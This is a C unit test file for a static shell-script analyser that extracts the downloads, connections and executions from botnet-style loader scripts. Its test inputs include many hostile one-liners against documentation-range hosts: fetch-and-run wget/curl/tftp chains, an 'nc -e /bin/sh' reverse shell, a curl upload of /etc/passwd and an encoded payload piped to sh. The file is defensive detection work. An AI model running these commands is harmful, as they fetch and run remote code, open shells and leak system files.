#include "shell/dry.h"

#include "base/buf.h"
#include "base/text.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define LENGTH(a) (sizeof(a) / sizeof(a)[0])

struct told {
    struct buf text;
    bool commands;
};

static void found(void *context, const struct dry_found *f)
{
    struct told *t = context;
    if (f->kind == DRY_RUN)
        buf_print(&t->text, "run %s\n", f->name);
    if (f->kind == DRY_COMMAND && t->commands)
        buf_print(&t->text, "%s\n", f->name);
    if (f->kind == DRY_FETCH)
        buf_print(&t->text, "%s %s %s %u %s %s %s\n", f->applet, f->scheme, f->host, f->port,
                  *f->path ? f->path : "-", f->upload ? "<" : ">", *f->save ? f->save : "-");
}

/* Texts are compared with an end of line behind each finding. */
static void check(const char *script, const char *expected, bool commands)
{
    struct told t = { .commands = commands };
    buf_init(&t.text, 1 << 16);
    struct dry d = { .context = &t, .found = found };
    assert_int_equal(dry_walk(&d, script, strlen(script)), 0);
    buf_u8(&t.text, 0);
    assert_true(buf_ok(&t.text));
    if (strcmp((char *)t.text.data, expected) != 0)
        fail_msg("%s\n--- found\n%s--- expected\n%s", script, (char *)t.text.data, expected);
    buf_release(&t.text);
}

/* clang-format off */
static const char *const scripts[][2] = {
    { "wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh", "wget http 192.0.2.1 80 /a.sh > a.sh\nrun a.sh\n" },
    { "wget -q -O /tmp/x https://h.example.com:8443/p/q.sh?id=1 --no-check-certificate",
      "wget https h.example.com 8443 /p/q.sh?id=1 > /tmp/x\n" },
    { "wget -qO- 192.0.2.1/krax | sh", "wget http 192.0.2.1 80 /krax > -\n" },
    { "wget http://192.0.2.1/", "wget http 192.0.2.1 80 / > index.html\n" },
    { "curl -O http://192.0.2.1/bins.sh", "curl http 192.0.2.1 80 /bins.sh > bins.sh\n" },
    { "curl -fsSL -A 'a b' -o krax 192.0.2.1/krax", "curl http 192.0.2.1 80 /krax > krax\n" },
    { "curl http://192.0.2.1/bins/bins.sh -O", "curl http 192.0.2.1 80 /bins/bins.sh > bins.sh\n" },
    { "curl -s http://u:p@192.0.2.1:8080/x", "curl http 192.0.2.1 8080 /x > -\n" },
    { "curl -d @/etc/passwd http://192.0.2.1/up", "curl http 192.0.2.1 80 /up < -\n" },
    { "wget http://[2001:db8::1]:81/a", "wget http [2001:db8::1] 81 /a > a\n" },
    { "tftp -g -r t.sh -l /tmp/t 192.0.2.1", "tftp tftp 192.0.2.1 69 /t.sh > /tmp/t\n" },
    { "tftp -r t8UsA2.sh -g 192.0.2.1 6969", "tftp tftp 192.0.2.1 6969 /t8UsA2.sh > t8UsA2.sh\n" },
    { "tftp 192.0.2.1 -c get t8UsA.sh", "tftp tftp 192.0.2.1 69 /t8UsA.sh > t8UsA.sh\n" },
    { "ftpget -v -u anonymous -p anonymous -P 2121 192.0.2.1 bins.sh dir/bins.sh",
      "ftpget ftp 192.0.2.1 2121 /dir/bins.sh > bins.sh\n" },
    { "ftpput -u a 192.0.2.1 remote local", "ftpput ftp 192.0.2.1 21 /remote < local\n" },
    { "nc 192.0.2.1 4444 -e /bin/sh", "nc tcp 192.0.2.1 4444 - > -\n" },
    { "busybox nc -w 5 192.0.2.1 9 > f; telnet 192.0.2.1; telnet -l root h.example.com 2323",
      "nc tcp 192.0.2.1 9 - > -\ntelnet tcp 192.0.2.1 23 - > -\ntelnet tcp h.example.com 2323 - > -\n" },
    { "exec 3<>/dev/tcp/192.0.2.1/80; cat </dev/tcp/192.0.2.2/81 >x; cat /dev/udp/192.0.2.3/53",
      "exec tcp 192.0.2.1 80 - > -\ncat tcp 192.0.2.2 81 - > -\ncat udp 192.0.2.3 53 - > -\n" },
    /* Prefixes, branches. */
    { "/bin/busybox wget http://192.0.2.1/a; nohup timeout -s KILL 5 env A=b wget http://192.0.2.1/b &",
      "wget http 192.0.2.1 80 /a > a\nwget http 192.0.2.1 80 /b > b\n" },
    { "cd /tmp || cd /var/run; wget http://192.0.2.1/a || curl -O http://192.0.2.1/b || tftp -g -r c 192.0.2.1",
      "wget http 192.0.2.1 80 /a > a\ncurl http 192.0.2.1 80 /b > b\ntftp tftp 192.0.2.1 69 /c > c\n" },
    { "if [ -f x ]; then wget 192.0.2.1/a; elif which curl; then curl 192.0.2.1/b; else nc 192.0.2.1 1; fi",
      "wget http 192.0.2.1 80 /a > a\ncurl http 192.0.2.1 80 /b > -\nnc tcp 192.0.2.1 1 - > -\n" },
    { "case `uname -m` in arm*) b=arm;; mips) b=mips;; *) b=x86;; esac; wget http://192.0.2.1/$b -O .x; ./.x",
      "wget http 192.0.2.1 80 /arm > .x\nwget http 192.0.2.1 80 /mips > .x\nwget http 192.0.2.1 80 /x86 > .x\nrun ./.x\n" },
    { "while :; do wget 192.0.2.1/a && break; done", "wget http 192.0.2.1 80 /a > a\n" },
    { "exit 0\nwget 192.0.2.1/a", "wget http 192.0.2.1 80 /a > a\n" },
    /* Variables. */
    { "H=192.0.2.1; P=8080; U=\"http://$H:$P\"; wget $U/a.sh -O ${D:-/tmp}/b",
      "wget http 192.0.2.1 8080 /a.sh > /tmp/b\n" },
    { "for a in x86 arm7 mips; do wget http://192.0.2.1/bins/$a; chmod +x $a; ./$a; done",
      "wget http 192.0.2.1 80 /bins/x86 > x86\nrun ./x86\nwget http 192.0.2.1 80 /bins/arm7 > arm7\nrun ./arm7\n"
      "wget http 192.0.2.1 80 /bins/mips > mips\nrun ./mips\n" },
    { "l='a b'; for a in $l c; do for h in 192.0.2.1 192.0.2.2; do nc $h 1; done; wget 192.0.2.1/$a; done",
      "nc tcp 192.0.2.1 1 - > -\nnc tcp 192.0.2.2 1 - > -\nwget http 192.0.2.1 80 /a > a\nwget http 192.0.2.1 80 /b > b\n"
      "wget http 192.0.2.1 80 /c > c\n" },
    { "if a; then h=192.0.2.1; else h=192.0.2.2; fi; u=http://$h/x; wget $u",
      "wget http 192.0.2.1 80 /x > x\nwget http 192.0.2.2 80 /x > x\n" },
    { "wget http://$1/$x.sh", "wget http * 80 /*.sh > *.sh\n" },
    { "wget http://192.0.2.1/$(uname -m)", "wget http 192.0.2.1 80 /* > *\n" },
    { "h=$(echo 192.0.2.1); wget \"http://$h/`printf '%s.%s' a sh`\"", "wget http 192.0.2.1 80 /a.sh > a.sh\n" },
    { "x=http://192.0.2.1/old; wget ${x%/*}/new; wget ${x/old/two}; wget ${x:0:17}x; wget ${x#http://}",
      "wget http 192.0.2.1 80 /new > new\nwget http 192.0.2.1 80 /two > two\nwget http 192.0.2.1 80 /x > x\n"
      "wget http 192.0.2.1 80 /old > old\n" },
    { "p=$((80)); q=$((p+1)); nc 192.0.2.1 $p; nc 192.0.2.1 $q", "nc tcp 192.0.2.1 80 - > -\nnc tcp 192.0.2.1 0 - > -\n" },
    { "export H=192.0.2.1 P=81; nc $H $P", "nc tcp 192.0.2.1 81 - > -\n" },
    { "read x; wget http://192.0.2.1/$x", "wget http 192.0.2.1 80 /* > *\n" },
    /* Functions. */
    { "get() { wget http://192.0.2.1/$1 -O $2; }; get a b; get c d",
      "wget http 192.0.2.1 80 /a > b\nwget http 192.0.2.1 80 /c > d\n" },
    { "never() { wget http://192.0.2.1/a; }", "wget http 192.0.2.1 80 /a > a\n" },
    { "f() { f; wget 192.0.2.1/a; }; f", "wget http 192.0.2.1 80 /a > a\n" },
    { "set -- a b; for i; do wget 192.0.2.1/$i; done; shift; wget 192.0.2.1/x$1",
      "wget http 192.0.2.1 80 /a > a\nwget http 192.0.2.1 80 /b > b\nwget http 192.0.2.1 80 /xb > xb\n" },
    /* Scripts that a script makes. */
    { "echo 'wget http://192.0.2.1/a' > s.sh; echo 'nc 192.0.2.1 $1' >> s.sh; sh s.sh 77",
      "run s.sh\nwget http 192.0.2.1 80 /a > a\nnc tcp 192.0.2.1 77 - > -\n" },
    { "cat > /tmp/s <<E\nwget http://192.0.2.1/a\nE\nchmod +x /tmp/s; cd /tmp; ./s", "run ./s\nwget http 192.0.2.1 80 /a > a\n" },
    { "echo \"wget 192.0.2.1/a\" | sh", "wget http 192.0.2.1 80 /a > a\n" },
    { "sh <<E\nwget 192.0.2.1/a\nE", "wget http 192.0.2.1 80 /a > a\n" },
    { "sh -c 'wget 192.0.2.1/a; nc $0 $1' x 81; eval \"wget 192.0.2.1/b\"",
      "wget http 192.0.2.1 80 /a > a\nnc tcp sh 81 - > -\nwget http 192.0.2.1 80 /b > b\n" },
    { "echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh", "wget http 192.0.2.1 80 /a > a\n" },
    { "echo -ne '\\x77get 192.0.2.1\\057a\\n' > x; cp x y; . ./y", "run ./y\nwget http 192.0.2.1 80 /a > a\n" },
    { "printf 'wget %s/%s\\n' 192.0.2.1 a 192.0.2.2 b | tee z; sh < z",
      "wget http 192.0.2.1 80 /a > a\nwget http 192.0.2.2 80 /b > b\n" },
    { "{ echo wget 192.0.2.1/a; echo nc 192.0.2.1 1; } > s; sh s", "run s\nwget http 192.0.2.1 80 /a > a\nnc tcp 192.0.2.1 1 - > -\n" },
    { "echo 192.0.2.1/a 192.0.2.1/b | xargs wget -q", "wget http 192.0.2.1 80 /a > a\nwget http 192.0.2.1 80 /b > b\n" },
    { "trap 'wget 192.0.2.1/a' EXIT", "wget http 192.0.2.1 80 /a > a\n" },
    { "echo 'sh s' > s; sh s", "run s\n" },
    /* What makes no sense does not end it. */
    { "if; then\nwget 192.0.2.1/a\n)\nnc 192.0.2.1 1", "wget http 192.0.2.1 80 /a > a\nnc tcp 192.0.2.1 1 - > -\n" },
    { "wget; curl; tftp; nc; telnet; ftpget", "" },
};

/* With commands. */
static const char *const commands[][2] = {
    { "cd /tmp; /bin/busybox cat /proc/mounts || while read i; do echo $i; done </x; A=b ./c | d &",
      "cd\n/bin/busybox\ncat\nread\necho\n./c\nrun ./c\nd\n" },
    { "$x; \"\"; \\a; 'b c'; /usr/bin/../bin/ls", "a\nb c\n/usr/bin/../bin/ls\n" },
};
/* clang-format on */

static void loaders_are_read(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(scripts); i++)
        check(scripts[i][0], scripts[i][1], false);
}

static void commands_are_named(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(commands); i++)
        check(commands[i][0], commands[i][1], true);
}

static void nothing(void *context, const struct dry_found *f)
{
    (void)context;
    (void)f;
}

/* Each would take for ever, or everything. */
static void bounds_hold(void **state)
{
    (void)state;
    static const char *const endless[] = {
        "f() { f $1 $1; f $1$1; }; f aaaaaaaa",
        "x=aaaaaaaaaaaaaaaa; for i in 1 2 3 4 5 6 7 8 9 0; do for j in 1 2 3 4 5 6 7 8 9 0; do "
        "x=$x$x; done; done; echo $x",
        "echo 'cat s s > t; cp t s; sh s; sh s' > s; sh s",
        "for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do "
        "for d in 1 2 3 4 5 6 7 8; do "
        "for e in 1 2 3 4 5 6 7 8; do for f in 1 2 3 4 5 6 7 8; do wget $a$b$c$d$e$f; done; done; "
        "done; done; done; done",
    };
    for (size_t i = 0; i < LENGTH(endless); i++) {
        struct dry d = { .found = nothing };
        (void)!dry_walk(&d, endless[i], strlen(endless[i]));
    }
    struct dry small = { .found = nothing, .steps = 10 };
    assert_int_equal(dry_walk(&small, "a;a;a;a;a;a;a;a;a;a;a;a;a;a;a;a", 31), 1);
    struct dry tight = { .found = nothing, .memory = 2000 };
    assert_int_equal(dry_walk(&tight, "x=1; y=2; echo $x $y; wget 192.0.2.1/a; a b c d e f g", 52),
                     1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(loaders_are_read),
        cmocka_unit_test(commands_are_named),
        cmocka_unit_test(bounds_hold),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
